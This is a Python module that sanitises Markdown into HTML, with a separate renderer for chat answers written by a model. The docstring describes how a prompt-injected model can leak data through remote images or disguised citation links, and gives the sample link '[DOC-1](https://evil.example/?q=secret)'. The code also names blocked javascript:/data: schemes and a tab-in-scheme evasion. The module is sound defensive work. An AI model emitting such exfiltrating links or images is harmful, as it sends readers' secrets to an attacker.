"""User text to safe HTML: Markdown with raw HTML escaped and only http/https/mailto (or relative) links.

markdown-it-py in its CommonMark preset with ``html`` off renders any HTML a user writes as text; its
``validateLink`` hook is replaced so that ``javascript:``, ``data:``, ``vbscript:`` and every other scheme
is refused (the link text stays, as plain text). Images are rendered as links, never loaded: the
Content-Security-Policy allows images from this server only, and a remote image would leak who read
the page (OWASP XSS Prevention Cheat Sheet, rule 5 "URL-escape and allow-list schemes").

``render_chat_markdown`` is for text a model wrote, which a prompt injection in a record or a web page may
have steered (issue 13): besides all of the above, an image — inline or reference-style, also one nested
in a link — becomes a plain link labelled "image: <alt>", so nothing is fetched when the answer is shown
and the reader sees what the model tried to show; and every link to another site is followed by its host
in the text, so ``[DOC-1](https://evil.example/?q=secret)`` cannot pass for a citation of DOC-1.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.rules_core import StateCore
from markdown_it.token import Token

ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
# Browsers ignore tabs, newlines and leading control characters inside a scheme ("java\tscript:").
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")


def safe_link(url: str) -> bool:
    """True for http, https and mailto URLs and for links with no scheme (relative, #anchors)."""
    cleaned = _IGNORED_IN_URL.sub("", url)
    if not cleaned:
        return False
    scheme = urlsplit(cleaned).scheme.lower()
    if scheme:
        return scheme in ALLOWED_SCHEMES
    return ":" not in cleaned.split("/", 1)[0]  # "javascript&colon;..." decoded later never gets here


def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.validateLink = safe_link
    md.disable("image")  # ![alt](url) stays as text; see the module docstring
    return md


_MD = _markdown()


EXTERNAL_LINK_REL = "noopener noreferrer nofollow"


def external_host(url: str) -> str | None:
    """The host a link leads to when it leaves this server (absolute or protocol-relative), else None."""
    parts = urlsplit(url)
    return parts.hostname if parts.netloc else None


def _link_rel(self, tokens: list[Token], idx: int, options, env) -> str:  # noqa: ANN001 - markdown-it's signature
    tokens[idx].attrSet("rel", EXTERNAL_LINK_REL)
    return self.renderToken(tokens, idx, options, env)


def _image_as_link(self, tokens: list[Token], idx: int, options, env) -> str:  # noqa: ANN001
    image = tokens[idx]
    alt = self.renderInlineAsText(image.children or [], options, env)
    label = escapeHtml(f"image: {alt}" if alt else "image")
    opened = sum({"link_open": 1, "link_close": -1}.get(t.type, 0) for t in tokens[:idx])
    if opened > 0:  # inside a link already: an anchor in an anchor is not HTML, the label is enough
        return label
    src = image.attrGet("src") or ""
    host = external_host(src)
    suffix = f" ({escapeHtml(host)})" if host else ""
    return f'<a href="{escapeHtml(src)}" rel="{EXTERNAL_LINK_REL}">{label}</a>{suffix}'


def _name_external_hosts(state: StateCore) -> None:
    """After each link to another site, its host as text, unless the link's text is its address already."""
    for block in state.tokens:
        if block.type != "inline" or not block.children:
            continue
        children: list[Token] = []
        href, text = None, []
        for token in block.children:
            children.append(token)
            if token.type == "link_open":
                href, text = str(token.attrGet("href") or ""), []
            elif token.type == "link_close" and href is not None:
                host = external_host(href)
                shown = "".join(text).strip()
                if host and shown not in (href, href.removeprefix("mailto:")):
                    suffix = Token("text", "", 0)
                    suffix.content = f" ({host})"
                    children.append(suffix)
                href = None
            elif href is not None and token.type in ("text", "code_inline"):
                text.append(token.content)
        block.children = children


def _chat_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.validateLink = safe_link  # for images too: ![x](javascript:...) stays text
    md.add_render_rule("image", _image_as_link)
    md.add_render_rule("link_open", _link_rel)
    md.core.ruler.push("name_external_hosts", _name_external_hosts)
    return md


_CHAT_MD = _chat_markdown()


def _external_links(html: str) -> str:
    # Links leave with no referrer and cannot reach back into this tab (window.opener).
    return html.replace("<a href=", '<a rel="nofollow noopener noreferrer" href=')


def render_markdown(text: str) -> str:
    """HTML for user-written Markdown; safe to insert into a page as is."""
    return _external_links(_MD.render(text or ""))


def render_chat_markdown(text: str) -> str:
    """HTML for Markdown a model wrote (a chat answer): as ``render_markdown``, and no image is ever loaded
    and every link to another site shows its host (see the module docstring)."""
    return _CHAT_MD.render(text or "")
